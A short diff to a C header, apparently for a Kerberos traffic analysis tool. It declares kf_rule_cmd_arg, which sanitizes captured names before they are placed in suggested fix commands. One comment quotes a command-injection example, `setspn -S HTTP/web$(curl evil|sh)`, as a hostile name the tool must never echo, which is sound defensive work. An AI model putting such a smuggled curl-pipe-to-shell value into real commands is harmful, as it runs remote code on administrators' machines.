@@ -115,6 +115,11 @@ void kf_rule_nomem(struct kf_rule_ctx *ctx);
 /* printf into run-lifetime memory (NULL when out of memory: kf_finding_add
  * copes).  For building summaries. */
 const char *kf_rule_fmt(struct kf_rule_ctx *ctx, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
+/* A name from the capture as an argument of a command in a fix: the name when
+ * it keeps to a host/SPN/user name's grammar, else "<name>", and the next
+ * finding's fix ends with a note showing the name quoted (names are hostile:
+ * `setspn -S HTTP/web$(curl evil|sh)` must never be suggested). */
+const char *kf_rule_cmd_arg(struct kf_rule_ctx *ctx, const char *name);
 
 /* True when a KRB-ERROR from a KDC was recovered from at once: the same
  * client got a successful reply (AS-REP / TGS-REP) for the same request
